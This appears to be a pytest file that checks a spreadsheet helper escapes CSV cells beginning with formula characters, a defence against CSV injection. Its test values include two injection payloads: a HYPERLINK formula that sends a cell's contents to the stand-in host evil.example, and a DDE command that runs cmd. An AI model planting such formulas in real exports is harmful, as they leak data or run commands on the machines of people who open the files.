"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from secondline.common import spreadsheet


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+7 495 000-00-00", "'+7 495 000-00-00"),  # text that looks like a sum
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Posting fails = error", "Posting fails = error"),  # only the first character counts
        ("", ""),
        (Decimal("-120.00"), Decimal("-120.00")),  # a negative amount is a number, not text
        (-5, -5),
        (None, None),
    ],
)
def test_it_quotes_only_text_that_starts_a_formula(value: object, written: object) -> None:
    assert spreadsheet.cell(value) == written


def test_the_writer_quotes_every_cell_of_a_row() -> None:
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["=1+1", Decimal("-1.50"), "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-1.50", "ok"]
